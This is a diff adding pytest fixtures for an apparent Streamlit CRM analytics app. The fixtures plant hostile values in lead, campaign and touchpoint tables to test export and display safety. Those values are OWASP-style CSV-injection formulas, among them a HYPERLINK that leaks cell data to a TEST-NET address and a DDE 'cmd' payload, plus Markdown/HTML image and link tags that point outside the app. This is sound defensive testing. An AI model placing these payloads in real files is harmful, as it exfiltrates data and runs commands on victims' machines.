@@ -79,3 +79,68 @@ def page(browser):
     context = browser.new_context(viewport={"width": 1440, "height": 1000})
     yield context.new_page()
     context.close()
+
+
+# Values an attacker could put into a CRM export: formulas a spreadsheet would run (OWASP's
+# CSV-injection cases, tab and carriage-return variants included) and Markdown/HTML that would
+# fetch from, or link to, an address outside the app.
+FORMULAS = [
+    '=HYPERLINK("http://198.51.100.1/?leak="&A1,"Click")',
+    "=cmd|' /C calc'!A0",
+    "+1+1",
+    "-2+3",
+    "@SUM(A1)",
+    "\t=1+1",
+    "\r=1+1",
+]
+OUTSIDE = "198.51.100.1"  # TEST-NET-2: an address that is nobody's
+IMAGE = f"![x](http://{OUTSIDE}/x.png)"
+HTML_IMAGE = f"<img src=http://{OUTSIDE}/y>"
+LINK = f"[click](http://{OUTSIDE})"
+HTML_LINK = f'<a href="http://{OUTSIDE}/z">z</a>'  # Plotly's labels understand this one
+MARKUP = f"{IMAGE} {HTML_IMAGE} {LINK} {HTML_LINK} **bold**"
+
+
+def hostile_tables() -> dict[str, pd.DataFrame]:
+    """The fixture with formulas in companies, job titles, a campaign and a rejection reason,
+    and Markdown in the top rejection reason, an industry, a campaign and a touchpoint type."""
+    tables = fixture_tables()
+    leads = tables["leads"]
+    leads["company"] = [FORMULAS[i % len(FORMULAS)] for i in range(len(leads))]
+    leads["job_title"] = [FORMULAS[(i + 3) % len(FORMULAS)] for i in range(len(leads))]
+    reasons = {"L03": MARKUP, "L09": MARKUP, "L17": "=cmd|' /C calc'!A0"}
+    leads["rejection_reason"] = [
+        reasons.get(lead, reason)
+        for lead, reason in zip(leads["lead_id"], leads["rejection_reason"])
+    ]
+    leads.loc[leads["industry"] == "manufacturing", "industry"] = MARKUP
+    tables["campaigns"]["name"] = ['=HYPERLINK("http://198.51.100.1","x")', MARKUP]
+    touchpoints = tables["touchpoints"]
+    touchpoints.loc[touchpoints["type"] == "ebook_download", "type"] = MARKUP
+    return tables
+
+
+@pytest.fixture(scope="session")
+def hostile_db(tmp_path_factory: pytest.TempPathFactory) -> Path:
+    """The hostile fixture in a database whose source (the mapping's name) is Markdown too."""
+    path = tmp_path_factory.mktemp("hostile") / "leadflow.duckdb"
+    db.create_database(path, hostile_tables(), source=MARKUP, as_of=FIXTURE_AS_OF)
+    return path
+
+
+@pytest.fixture
+def deferred_downloads(monkeypatch: pytest.MonkeyPatch) -> dict:
+    """file name → the callable of every download button made on click, as pages register
+    them. Calling one in the test runs it as the server does: outside the page's run, where
+    st.user is empty."""
+    from streamlit.runtime.media_file_manager import MediaFileManager
+
+    made: dict = {}
+    register = MediaFileManager.add_deferred
+
+    def spy(self, data_callable, mimetype, coordinates, file_name=None, **kwargs):
+        made[file_name] = data_callable
+        return register(self, data_callable, mimetype, coordinates, file_name, **kwargs)
+
+    monkeypatch.setattr(MediaFileManager, "add_deferred", spy)
+    return made
